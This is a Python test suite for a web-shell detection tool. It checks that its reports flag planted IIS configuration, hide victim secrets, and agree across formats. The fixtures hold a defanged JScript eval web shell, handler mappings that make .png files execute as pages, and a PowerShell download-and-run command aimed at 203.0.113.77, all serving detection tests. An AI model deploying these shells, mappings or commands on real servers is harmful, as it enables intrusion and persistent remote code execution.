"""Stories of what to do, and of the fourteen forms: the planted element alone, nothing live, and one truth in all."""

from __future__ import annotations

import csv
import io
import json
import re
from functools import cache
from pathlib import Path

import pytest

import webshellhunt as wsh
from tests.builders import logs as log_files
from tests.builders.event_logs import sysmon
from tests.builders.inert import live
from tests.builders.servers import HOST_CONFIG
from tests.stories.evidence import (
    AUTH,
    FRONT,
    INTRUDER,
    SITE,
    Server,
    Told,
    at,
    fixture,
    shell,
    times,
)
from tests.stories.test_exploitation_grades import PAGE, set_url
from webshellhunt.model.traffic import LogKind
from webshellhunt.reports.format_registry import formats
from webshellhunt.selftest.demo import demo_source
from webshellhunt.sources.memory import MemorySource

X1 = "/aspnet_client/x1.aspx"
STRINGS = (
    '<connectionStrings><add name="shop" connectionString="Server=db1;Database=shop;User Id=web;Password=Geh31mnis" '
    'providerName="System.Data.SqlClient" /></connectionStrings>'
)
PLANTED = live(
    '<add name="px" pa·th="*.p·ng" verb="*" type="System.Web.UI.PageHand·lerFactory" preCondition="integratedMode" />'
)
PROVIDER = live(
    '<system.web><compilation><buildProviders><add exten·sion=".p·ng" '
    'type="System.Web.Compilation.PageBuildProvider" /></buildProviders></compilation>'
    "</system.web>"
)


def mapped(config: str) -> Told:
    """Hunt a site whose configuration executes pictures, one of which is a shell."""
    server = Server()
    server.visitors("03")
    server.add(f"{SITE}/shop/web.config", config, at("03 04:00:00"))
    server.add(f"{SITE}/shop/logo.png", shell(), at("03 04:00:00"))
    return server.hunt()


def steps_about_configuration(told: Told) -> str:
    return " ".join(each for each in told.steps if "web.config" in each or "applicationHost" in each)


def test_the_victims_element_on_the_same_line_stays() -> None:
    told = mapped(
        f"<configuration>{STRINGS}<system.webServer><handlers>{PLANTED}</handlers></system.webServer>{PROVIDER}</configuration>"
    )
    said = steps_about_configuration(told)
    assert 'name="px"' in said, told.steps
    assert "connectionString" not in said, said
    assert 'name="shop"' not in said, said


def test_the_victims_handler_on_the_same_line_stays() -> None:
    own = (
        '<add name="Reports" path="Reserved.ReportViewerWebControl.axd" verb="*" '
        'type="Microsoft.Reporting.WebForms.HttpHandler" />'
    )
    told = mapped(
        f"<configuration><system.webServer><handlers>{own}{PLANTED}</handlers></system.webServer>{PROVIDER}</configuration>"
    )
    said = steps_about_configuration(told)
    assert 'name="px"' in said, told.steps
    assert "Reports" not in said, said
    assert "ReportViewer" not in said, said


def test_elements_of_one_name_are_told_apart() -> None:
    own = '<httpHandlers><add name="px" path="*.report" verb="*" type="Vendor.Report" /></httpHandlers>'
    config = (
        f"<configuration><system.web>{own}</system.web><system.webServer><handlers>"
        f"{PLANTED}</handlers></system.webServer>{PROVIDER}</configuration>"
    )
    said = steps_about_configuration(mapped(config))
    assert "*.png" in said or 'path="*.png"' in said, said
    assert "*.report" not in said, said
    assert "httpHandlers" not in said, said


def test_a_configuration_of_several_lines() -> None:
    config = (
        f"<configuration>\n{STRINGS}\n<system.webServer>\n<handlers>\n{PLANTED}\n</handlers>"
        f"\n</system.webServer>\n{PROVIDER}\n</configuration>\n"
    )
    said = steps_about_configuration(mapped(config))
    assert re.search(r"line 5: <add name=\"px\"", said), said
    assert "line 2" not in said, said
    assert '<add extension=".png"' in said, said
    assert "<system.web " not in said, said


def test_a_planted_module_among_modules_of_one_line() -> None:
    server = Server()
    server.visitors("03")
    own = '<add name="Audit" type="Vendor.Audit.Module, Vendor.Audit" />'
    config = (
        f'<configuration>{STRINGS}<system.webServer><modules>{own}<add name="Cache" '
        'image="C:\\ProgramData\\COM1\\c.dll" type="Evil.Module" /></modules></system.webServer>'
        "</configuration>"
    )
    server.add(f"{SITE}/shop/web.config", config, at("03 04:00:00"))
    said = steps_about_configuration(server.hunt())
    assert "connectionString" not in said, said
    assert 'name="shop"' not in said, said
    assert 'name="Audit"' not in said, said


def test_an_honest_configuration_gets_no_step() -> None:
    server = Server()
    server.visitors("03")
    own = (
        '<add name="Reports" path="Reserved.ReportViewerWebControl.axd" verb="*" '
        'type="Microsoft.Reporting.WebForms.HttpHandler" />'
    )
    server.add(
        f"{SITE}/shop/web.config",
        f"<configuration>{STRINGS}<system.webServer><handlers>{own}</handlers></system.webServer></configuration>",
    )
    told = server.hunt()
    told.quiet()
    assert not steps_about_configuration(told), told.steps


def test_no_secret_of_the_victim_is_told() -> None:
    told = mapped(
        f"<configuration>{STRINGS}<system.webServer><handlers>{PLANTED}</handlers></system.webServer>{PROVIDER}</configuration>"
    )
    assert "Geh31mnis" not in told.raw_text + json.dumps(told.document)


def test_no_step_removes_a_stock_page() -> None:
    server = Server()
    server.visitors("03")
    server.add(f"{AUTH}/errorFE.aspx", server.files[f"{AUTH}/errorFE.aspx"] + shell(), at("03 04:00:00"))
    told = server.hunt()
    remove = " ".join(each for each in told.steps if each.startswith("Remove "))
    assert "errorFE.aspx" not in remove, remove
    assert [each for each in told.steps if "errorFE.aspx" in each and re.match("Replace|Restore", each)], told.steps


# nothing live in any form


@cache
def quoted() -> wsh.Report:
    """Return the report of a server whose logs quote shells in agents, queries, names and cmdlets, and are of use."""
    server = Server()
    server.visitors("03")
    server.shell()
    server.call("POST", X1, times("03 04:20:00", 3), agent=ONE, query=f"a={ONE}", referer=ONE)
    server.call("POST", "/aspnet_client/gone.aspx", times("03 05:20:00", 4), agent=ONE)
    server.ran("/aspnet_client/gone.aspx")
    set_url(server, "03 04:10:08", f"http://f/{PAGE}")
    script = live("Invoke-Exp·ression (New-Object Net.Web·Client).Down·loadString('http://203.0.113.77/a.ps1')")
    server.events(
        "Microsoft-Windows-Sysmon/Operational",
        sysmon(
            1,
            "2021-03-03T04:25:10Z",
            Image=r"C:\Windows\System32\cmd.exe",
            CommandLine=f'cmd.exe /c powershell -c "{script}"',
            ParentImage=r"C:\Windows\System32\inetsrv\w3wp.exe",
            ParentCommandLine="w3wp.exe -ap MSExchangeOWAAppPool",
        ),
    )
    return wsh.hunt(server.source())


FORMS = sorted(formats())
VENDOR = "csharp-upload-mapped"


ONE = live('<%@Page+Language="Jscript"%><%ev·al(Req·uest.Item["k"],"uns·afe");%>')


def written(report: wsh.Report, form: str, folder: Path) -> str:
    """Return a form as it is written to a file; a terminal alone shows readable excerpts."""
    wsh.render(report, form, to=folder / "report", show_all=True)
    return (folder / "report").read_text(encoding="utf-8")


def accused_by_own_rules(text: str) -> list[str]:
    """Return what our rules say of a text above information, by itself and as a page."""
    verdicts = [wsh.examine(text.encode(), path=path) for path in ("report.txt", r"C:\inetpub\wwwroot\report.aspx")]
    return [each.message for verdict in verdicts for each in verdict.findings if each.severity > wsh.Severity.INFO]


@pytest.mark.parametrize("form", FORMS)
def test_no_form_has_live_text_quoted_from_logs(form: str, tmp_path: Path) -> None:
    text = written(quoted(), form, tmp_path)
    for part in (ONE, PAGE, json.dumps(ONE)[1:-1], json.dumps(PAGE)[1:-1], ONE.replace('"', '""')):
        assert part not in text, text[max(0, text.find(part) - 120) : text.find(part) + 60]
    assert not accused_by_own_rules(text)


@pytest.mark.parametrize("form", ["text", "html", "json", "csv", "markdown", "sarif", "ecs"])
def test_no_form_of_the_compromised_host_is_accused(form: str, tmp_path: Path) -> None:
    assert not accused_by_own_rules(written(_compromised(), form, tmp_path))


@cache
def _compromised() -> wsh.Report:
    return wsh.hunt(demo_source())


# one truth in all forms


@cache
def attacked() -> wsh.Report:
    server = Server()
    server.visitors("03", "04")
    server.shell()
    server.shell("owa/auth/kq7w.aspx", "03 04:02:00")
    server.call("POST", X1, times("03 04:20:00", 3))
    server.call("POST", "/owa/auth/kq7w.aspx", times("04 04:20:00", 2))
    set_url(server, "03 04:10:08", f"http://f/{PAGE}")
    return wsh.hunt(server.source())


@pytest.mark.parametrize("form", [each for each in FORMS if each != "navigator"])
def test_every_form_names_each_accused_subject(form: str) -> None:
    report = attacked()
    text = str(wsh.render(report, form))
    names = [each.subject.path.rpartition("\\")[2] for each in report.accused]
    assert len(names) >= 3
    plain = text.replace("\u00b7", "").replace("\\\\", "\\")
    missing = [each for each in names if each not in plain and each.partition(" (")[0] not in plain]
    assert not missing, missing


@pytest.mark.parametrize("form", [each for each in FORMS if each not in ("navigator", "sarif", "stix", "misp")])
def test_every_form_names_the_client(form: str) -> None:
    assert INTRUDER in str(wsh.render(attacked(), form)).replace("\u00b7", "")


def test_the_table_has_a_row_for_each_listed_subject() -> None:
    report = attacked()
    rows = list(csv.DictReader(io.StringIO(str(wsh.render(report, "csv")).lstrip("\ufeff"))))
    listed = json.loads(str(wsh.render(report, "json")))["reports"][0]["verdicts"]
    kinds = {key: sum(each["disposition"] == key for each in listed) for key in ("malicious", "suspicious")}
    mine = {key: sum(key in [str(value).lower() for value in each.values()] for each in rows) for key in kinds}
    assert mine == kinds


def test_the_results_of_sarif_name_the_same_accused_subjects() -> None:
    report = attacked()
    results = json.loads(str(wsh.render(report, "sarif")))["runs"][0]["results"]
    said = {json.dumps(each["locations"]) for each in results if each.get("level") in ("error", "warning")}
    for verdict in report.accused:
        name = verdict.subject.path.rpartition("\\")[2].partition(" (")[0]
        assert any(name in each for each in said) or name in json.dumps(results), name


def test_the_first_sentence_counts_what_is_listed() -> None:
    told = Told(attacked())
    back_doors = sum(each["disposition"] == "malicious" and each["subject_kind"] == "file" for each in told.verdicts)
    assert told.sentence.startswith(f"{back_doors} back door"), told.sentence


def test_first_and_last_use_are_the_same_in_all_forms() -> None:
    for form in ("text", "json", "html", "markdown", "csv", "ecs"):
        text = str(wsh.render(attacked(), form))
        assert re.search(r"2021-03-03[T ]04:20:00", text), form
        assert re.search(r"2021-03-03[T ]04:22:00", text), form


# interrupted, and small truths


def test_a_hunt_that_is_cancelled_while_logs_are_read_keeps_its_pages() -> None:
    server = Server()
    server.visitors("01", "02", "03", "04")
    server.shell()
    stages: list[str] = []
    report = wsh.hunt(
        server.source(),
        progress=lambda now: stages.append(str(now.stage)),
        cancel=lambda: bool(stages) and stages[-1] == "logs",
    )
    told = Told(report)
    assert report.interrupted
    assert told.one("x1.aspx")["disposition"] == "malicious"
    told.never(r"x1\.aspx.{0,200}not requested")
    told.says("interrupted")


def test_a_page_of_a_vendor_on_many_servers_is_not_the_same_shell() -> None:
    """An upload page of a product, which alone is no proof, on all of twelve servers."""
    page = fixture("request_writes_file/" + VENDOR)
    reports = []
    for number in range(5):
        server = Server()
        server.add(f"{SITE}/vendor/console.aspx", page, at("2019-03-01 04:00:00"))
        reports.append(wsh.hunt(MemorySource(server.below("C"), location=f"EXCH0{number}")))
    listed = [each for report in reports for each in report.verdicts if each.subject.path.endswith("console.aspx")]
    assert {each.disposition for each in listed} == {wsh.Disposition.SUSPICIOUS}
    text = str(wsh.render(reports, "text", fleet=True))
    found = re.search(r"same (web )?shell.{0,80}", text)
    assert found is None, found[0]


def test_a_virtual_directory_among_others_of_one_line() -> None:
    server = Server()
    server.visitors("03")
    planted = '<virtualDirectory path="/support" physicalPath="C:\\ProgramData\\COM1" />'.replace("\\\\", "\\")
    own = '<virtualDirectory path="/help" physicalPath="C:\\inetpub\\help" />'.replace("\\\\", "\\")
    whole = server.files[HOST_CONFIG].decode()
    root = '<virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />'.replace("\\\\", "\\")
    assert root in whole
    server.add(HOST_CONFIG, " ".join(whole.replace(root, root + own + planted, 1).split()), at("03 04:00:00"))
    server.add("ProgramData/COM1/support.aspx", shell(), at("03 04:00:00"))
    server.add("inetpub/help/index.htm", b"<p>Help</p>")
    said = steps_about_configuration(server.hunt())
    assert "/support" in said, said
    assert "/help" not in said, said


def test_a_front_end_log_without_iis_logs_is_not_called_no_logs() -> None:
    server = Server()
    data = log_files.text_log(LogKind.HTTP_PROXY, log_files.row("2021-03-03 04:05:06", "/owa/"))
    server.add(f"{FRONT[: FRONT.index('/FrontEnd')]}/Logging/HttpProxy/Owa/HttpProxy_2021030304-1.LOG", data)
    told = server.hunt()
    assert told.summary["coverage"]["logs"] in ("held", "partial"), told.summary["coverage"]
    told.never(r"logs: it is unknown who requested")


def test_nothing_found_is_never_called_clean() -> None:
    server = Server()
    server.visitors("03")
    told = server.hunt()
    told.quiet()
    told.never(r"\b(is|server is) clean\b")
    told.says(r"no proof")
